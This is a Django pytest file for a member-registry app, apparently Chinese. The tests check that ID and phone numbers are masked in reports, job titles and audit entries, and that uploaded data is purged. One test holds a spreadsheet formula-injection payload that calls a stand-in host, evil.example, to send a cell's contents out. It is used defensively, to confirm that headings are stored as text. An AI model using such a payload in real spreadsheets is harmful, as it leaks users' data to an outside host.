"""What is kept in clear (reports, titles, params, the audit) holds no number of a person, whatever column it slipped into."""

import json
from datetime import timedelta
from io import BytesIO

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from members.enums import CHECK
from sanjin.common.jobs import run, start_job
from sanjin.common.jobs.files import purge, sweep
from sanjin.common.models import AuditEntry, Job
from tests.factories import signed_in

from . import factories
from .registers import COLUMN, of, split
from .workbooks import HEADINGS, line, workbook

pytestmark = pytest.mark.django_db


def checked(keeper, *lines):
    upload = ContentFile(workbook(*lines), "a.xlsx")
    job = start_job(CHECK, title="检查", actor=keeper, upload=upload)
    run(job.pk)
    job.refresh_from_db()
    return job


def test_a_report_masks_numbers_of_a_column_that_slipped(keeper):
    number, phone = factories.id_number(), factories.phone()
    job = checked(keeper, line(姓名=number), line(人员类别=number, 民族=phone * 3, 工作岗位=number))
    kept = json.dumps(job.report, ensure_ascii=False)
    assert job.report["errors"] and number not in kept and phone not in kept


def test_rows_go_from_the_report_with_their_file_and_counts_stay(keeper):
    job = checked(keeper, line(姓名="李"))
    assert job.report["errors"]
    Job.objects.update(finished_at=timezone.now() - timedelta(days=3))
    purge()
    job.refresh_from_db()
    assert not job.input and job.report["counts"]
    assert not {"errors", "warnings", "extra", "errors_total"} & set(job.report)
    assert "已随上传的文件清理" in job.report["note"]


def test_rows_go_from_the_report_of_an_import_that_had_no_file_of_its_own(keeper):
    """It reads its check's: the names of who was there already would stay in the clear for ever."""
    rows = {"there": [{"name": "张三"}], "errors": [], "counts": [["总行数", 1]]}
    old, young = timezone.now() - timedelta(days=3), timezone.now()
    jobs = [
        Job.objects.create(kind="members.import", created_by=keeper, report=rows, finished_at=at)
        for at in (old, young)
    ]
    sweep()
    assert [set(Job.objects.get(pk=job.pk).report) for job in jobs] == [{"counts"}, set(rows)]


@pytest.mark.parametrize("page", ["/members/import/", "/members/split/", "/organizations/import/"])
def test_the_name_of_a_file_goes_masked_into_job_and_audit(page, keeper, superior, client):
    number = factories.id_number()
    file = SimpleUploadedFile(f"张三{number}.xlsx", workbook(line()))
    signed_in(client, keeper if "import" in page and "members" in page else superior)
    assert client.post(page, {"file": file, "mode": "replace"}).status_code == 302
    entry = AuditEntry.objects.filter(verb="job.started").latest("id")
    job = Job.objects.latest("id")
    assert number not in entry.subject_label + job.title and "张三" in job.title


def test_an_export_keeps_what_was_searched_sealed_and_finds_it_again(tree, keeper, client):
    wanted, _ = factories.member(tree.own, "张建国"), factories.member(tree.own, "李四")
    answer = signed_in(client, keeper).post(f"/members/export/?q={wanted.id_number}")
    assert answer.status_code == 302
    job = Job.objects.latest("id")
    assert wanted.id_number not in json.dumps(job.params)
    run(job.pk)
    job.refresh_from_db()
    rows = list(load_workbook(job.result.open("rb")).active.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == ["张建国"]


def test_a_heading_of_a_register_comes_back_as_text(tree, superior):
    evil = '=HYPERLINK("http://evil.example/?x="&C2,"点此核对")'
    job = split(superior, register_with(evil))
    headings = load_workbook(job.result.open("rb")).active[1]
    assert evil in [cell.value for cell in headings]
    assert [cell.coordinate for cell in headings if cell.data_type == "f"] == []


def register_with(heading: str) -> bytes:
    """A register with one more heading, written as text, and a row whose branch nobody knows."""
    book, names, row = Workbook(), [COLUMN, *HEADINGS, heading], of("没有这个支部")
    sheet = book.active
    for at, name in enumerate(names, 1):
        sheet.cell(1, at, name).data_type = "s"
        sheet.cell(2, at, row.get(name))
    file = BytesIO()
    book.save(file)
    return file.getvalue()
